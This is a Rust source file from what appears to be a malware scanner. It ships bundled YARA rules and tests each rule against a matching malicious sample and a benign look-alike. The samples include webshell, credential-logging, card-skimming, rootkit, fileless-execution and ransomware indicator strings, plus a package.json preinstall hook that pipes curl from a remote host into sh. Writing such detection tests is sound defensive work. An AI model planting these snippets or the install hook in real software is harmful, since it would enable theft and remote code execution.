//! The rules that the program brings along, for what its own look at contents does not know.

use super::Yara;

/// Their files.
const FILES: &[(&str, &str)] = &[
    ("kanshiki/pages.yar", include_str!("../../shipped/pages.yar")),
    ("kanshiki/programs.yar", include_str!("../../shipped/programs.yar")),
];

impl Yara {
    /// The rules that the program brings along.
    #[must_use]
    pub fn own() -> Self {
        Self::of_texts(FILES).0
    }
}

#[cfg(test)]
mod tests {
    use super::FILES;
    use crate::yara::{Subject, Yara};
    use kanshiki_model::Severity;

    /// A rule with the path and content of a file that it fits, and of one that it does not.
    type Case = (&'static str, (&'static str, &'static str), (&'static str, &'static str));

    const CASES: &[Case] = &[
        (
            "Page_With_Default_Key_Of_A_Shell",
            ("/w/a.php", "<?php @session_start(); $key=\"e45e329feb5d925b\"; $p=file_get_contents('php://input');"),
            ("/w/a.php", "<?php session_start(); $key=\"0123456789abcdef\"; echo openssl_decrypt($a, 'aes', $key);"),
        ),
        (
            "Page_Keeps_Passwords_Of_Visitors",
            ("/w/a.php", "<?php fwrite($h, $_POST['log'] . ':' . $_POST['password'] . \"\\n\");"),
            ("/w/a.php", "<?php fwrite($h, $name); $ok = password_verify($_POST['password'], $hash);"),
        ),
        (
            "Page_Keeps_Numbers_Of_Cards",
            (
                "/w/a.php",
                "<?php $c = $_POST['payment']['cc_number']; file_put_contents('media/logo.jpg', base64_encode($c), 8);",
            ),
            (
                "/w/a.php",
                "<?php $c = $_POST['payment']['cc_number']; curl_exec($gateway); file_put_contents('a.log', 1);",
            ),
        ),
        (
            "Page_Of_Java_In_Memory_Alone",
            (
                "/w/a.jsp",
                "<% Method m = c.getMethod(\"defineClass\"); context.addFilterMapBefore(f); request.getParameter(\"k\") %>",
            ),
            ("/w/a.jsp", "<% String name = request.getParameter(\"name\"); %>"),
        ),
        (
            "Login_Program_Keeps_Passwords",
            ("/usr/sbin/sshd", "\x7fELF SSH-2.0-OpenSSH keyboard-interactive\0user: %s pass: %s\n\0"),
            ("/usr/sbin/sshd", "\x7fELF SSH-2.0-OpenSSH keyboard-interactive\0Failed password for %s from %s\0"),
        ),
        (
            "Module_Of_Web_Server_Starts_Shells",
            ("/usr/lib/apache2/modules/mod_x.so", "\x7fELF\0ap_hook_handler\0popen\0/bin/sh\0"),
            ("/usr/lib/apache2/modules/mod_php.so", "\x7fELF\0ap_hook_handler\0popen\0/bin/sh\0zend_parse\0"),
        ),
        (
            "Program_For_The_Kernel_Hides_Names",
            ("/x", "\x7fELF\0tp/syscalls/sys_enter_getdents64\0tp/syscalls/sys_exit_getdents64\0"),
            ("/x", "\x7fELF\0tp/syscalls/sys_enter_openat\0tp/syscalls/sys_exit_getdents64\0"),
        ),
        (
            "Script_Runs_A_Program_From_Memory",
            ("/x", "#!/usr/bin/perl\nmy $fd = syscall(319, $n, 1);\nexec {\"/proc/$$/fd/$fd\"} 'kworker';\n"),
            ("/x", "#!/usr/bin/perl\nmy $fd = syscall(318, $n, 1);\nexec {\"/proc/$$/fd/$fd\"} 'kworker';\n"),
        ),
        (
            "Locks_Files_Of_Virtual_Machines",
            ("/x", "\x7fELF\0esxcli vm process kill --type=force\0.vmdk\0Encrypting %s\0"),
            ("/x", "\x7fELF\0esxcli vm process list\0.vmdk\0"),
        ),
        (
            "Ransom_Note",
            (
                "/var/lib/mysql/README.txt",
                "All your databases have been backed up on our servers. To get back your data pay 0.01 BTC to bitcoin:1x",
            ),
            ("/usr/share/doc/backup.txt", "Your files have been encrypted with the key of the backup server."),
        ),
        (
            "Starts_With_Every_Python",
            ("/usr/lib/python3/dist-packages/x.pth", "import os;exec(__import__('base64').b64decode('cHJpbnQ='))\n"),
            (
                "/usr/lib/python3/dist-packages/distutils-precedence.pth",
                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; \
                 enabled and __import__('_distutils_hack').add_shim(); \n",
            ),
        ),
        (
            "Package_Of_Node_Fetches_When_Installed",
            ("/w/package.json", "{\"scripts\": {\"preinstall\": \"curl -s http://192.0.2.1/x | sh\"}}"),
            ("/w/package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('./postinstall')\\\"\"}}"),
        ),
    ];

    fn fitting(path: &str, text: &str) -> Vec<String> {
        let scanned = Yara::own().scan(&Subject { path: path.as_bytes(), owner: 0 }, text.as_bytes());
        assert_eq!(scanned.incomplete, None);
        scanned.matches.into_iter().map(|it| it.rule).collect()
    }

    #[test]
    fn each_rule_fits_what_it_is_for_and_is_silent_beside_it() {
        for (rule, (path, text), (other_path, other)) in CASES {
            assert_eq!(fitting(path, text), [*rule]);
            assert_eq!(fitting(other_path, other), [""; 0], "{rule}");
        }
    }

    #[test]
    fn each_rule_has_a_case_and_says_how_much_it_matters() {
        let (mut own, issues) = Yara::of_texts(FILES);
        assert_eq!(issues, []);
        let mut names: Vec<String> = own.names().collect();
        let mut cases: Vec<&str> = CASES.iter().map(|(rule, ..)| *rule).collect();
        names.sort_unstable();
        cases.sort_unstable();
        assert_eq!(names, cases);
        for (_, (path, text), _) in CASES {
            let scanned = own.scan(&Subject { path: path.as_bytes(), owner: 0 }, text.as_bytes());
            let it = &scanned.matches[0];
            assert!(it.severity >= Some(Severity::Medium) && it.technique.is_some() && it.question.is_some(), "{it:?}");
            assert!(it.description.is_some());
        }
    }
}
